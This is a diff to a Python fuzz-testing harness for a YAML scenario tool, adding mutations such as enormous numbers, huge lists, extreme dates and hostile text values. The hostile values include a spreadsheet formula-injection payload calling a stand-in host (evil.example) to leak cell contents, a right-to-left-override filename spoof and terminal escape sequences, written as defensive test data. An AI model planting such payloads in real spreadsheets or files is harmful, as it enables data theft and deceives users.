@@ -15,6 +15,14 @@ nesting, duplicate keys) and on the text (YAML syntax breakers, truncation,
 random bytes, invalid UTF-8, NUL, BOMs, a whole file of noise, 10,000 nested
 brackets). One to three are stacked per case.
 
+Issue 13 added the classes that once ended in exit 1 or ran unbounded:
+integers of thousands of digits, lists of tens of thousands of items, a start
+date at the end of the calendar with a long horizon, periods of a nanosecond,
+math text (`$...$`) in the currency or unit, control, bidi and zero-width
+characters and formulas in the title, ids and units (`calendar_and_text`,
+`huge_number`, `long_list`); `run_args` sometimes asks for `--out --excel`,
+where the workbook and the charts meet them.
+
 Not mutated into: `sampling.scenarios` and `horizon.periods` at their
 maximum (valid, but a model of a million scenarios is a performance test,
 not a robustness one).
@@ -24,6 +32,7 @@ from __future__ import annotations
 
 import math
 import random
+import re
 import sys
 from collections.abc import Sequence
 from pathlib import Path
@@ -162,6 +171,17 @@ TEXTS: tuple[Any, ...] = (
     "/dev/zero",
     "rare-earths-baseline.yaml",
     "mutant.yaml",
+    "$\\frac{a}{b$",
+    "$x$",
+    "\x1b[31mred\x1b[0m",
+    "a\x07b",
+    "\u202egnp.exe",
+    "zero\u200bwidth",
+    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
+    "-2-3",
+    "@SUM(A1)",
+    'US"D',
+    "9999-12-01",
 )
 OTHERS: tuple[Any, ...] = (None, True, False, [], {}, [1, 2, 3], {"a": 1}, [None], [[]])
 
@@ -252,10 +272,43 @@ def _is_number(value: Any) -> bool:
     return isinstance(value, (int, float)) and not isinstance(value, bool)
 
 
+# Values that reached a traceback before issue 13, at the places they were seen.
+HOSTILE_VALUES: tuple[tuple[tuple[str, ...], Any], ...] = (
+    (("horizon", "start"), "9999-12-01"),
+    (("horizon", "start"), "9999-12-31"),
+    (("horizon", "period_days"), 1e-9),
+    (("horizon", "period_days"), 1e-300),
+    (("currency",), "$\\frac{a}{b$"),
+    (("currency",), 'US"D'),
+    (("quantity_unit",), "$x^2$"),
+    (("quantity_unit",), "\\"),
+    (("title",), "a\x07b\x1b[31m"),
+    (("title",), "\u202eevil\u200b"),
+    (("title",), '=HYPERLINK("http://evil.example/?x="&A1, "click")'),
+    (("description",), "\x00\x1b]0;title\x07"),
+)
+
+
+def calendar_and_text(data: Any, c: Chooser) -> Any:
+    """One of `HOSTILE_VALUES` set in a mapping at the top (its parents made if missing)."""
+    if not isinstance(data, dict):
+        return data
+    path, value = c.pick(HOSTILE_VALUES)
+    node = data
+    for part in path[:-1]:
+        if not isinstance(node.get(part), dict):
+            node[part] = {}
+        node = node[part]
+    node[path[-1]] = value
+    return data
+
+
 def mutate_data(data: Any, c: Chooser) -> Any:
     """One mutation of parsed data, in place where possible; returns the (new) root."""
     paths = [p for p in _paths(data) if p not in SIZE_FIELDS]
-    op = c.integer(0, 7)
+    op = c.integer(0, 8)
+    if op == 8:
+        return calendar_and_text(data, c)
     if not paths or op == 6:  # the root itself
         return _value(c)
     if op == 7:  # extreme but often valid numbers: they reach the solver
@@ -338,9 +391,30 @@ def _at(c: Chooser, text: bytes) -> int:
     return c.integer(0, len(text)) if text else 0
 
 
+def huge_number(text: bytes, c: Chooser) -> bytes:
+    """The first number after a random point replaced by one of thousands of digits."""
+    digits = c.pick([b"9" * 5000, b"1" * 100_000, b"1" + b"0" * 400 + b".5", b"1e99999"])
+    match = re.compile(rb"(?<=: )-?[0-9][0-9.]*").search(text, _at(c, text))
+    if match is None:
+        return text + b"\nhorizon: {periods: " + digits + b"}\n"
+    return text[: match.start()] + digits + text[match.end() :]
+
+
+def long_list(text: bytes, c: Chooser) -> bytes:
+    """A list far longer than any field takes (flow or block style)."""
+    n = c.pick([10_001, 50_000, 1_000_000])
+    if c.integer(0, 1):
+        return text + b"\nextra_demand: [" + b"1," * (n - 1) + b"1]\n"
+    return text + b"\nextra_demand:\n" + b"  - 1\n" * n
+
+
 def mutate_text(text: bytes, c: Chooser) -> bytes:
     """One mutation of the file's bytes."""
-    op = c.integer(0, 9)
+    op = c.integer(0, 11)
+    if op == 10:
+        return huge_number(text, c)
+    if op == 11:
+        return long_list(text, c)
     i = _at(c, text)
     if op == 0:  # a YAML syntax breaker somewhere
         return text[:i] + c.pick(BREAKERS).encode() + text[i:]
@@ -410,6 +484,13 @@ def prepare(workdir: Path) -> None:
     workdir.mkdir(parents=True, exist_ok=True)
     for src in (ROOT / "scenarios").rglob("*.yaml"):
         (workdir / src.name).write_bytes(src.read_bytes())
+
+
+def run_args(path: Path, c: Chooser) -> list[str]:
+    """The command line for a case: `run FILE`, sometimes with `--out DIR --excel --force`."""
+    if c.integer(0, 3) == 0:
+        return ["run", str(path), "--out", str(path.parent / "out"), "--excel", "--force"]
+    return ["run", str(path)]
 
 
 def verdict(path: Path, exit_code: int, output: str, exception: BaseException | None) -> str | None:
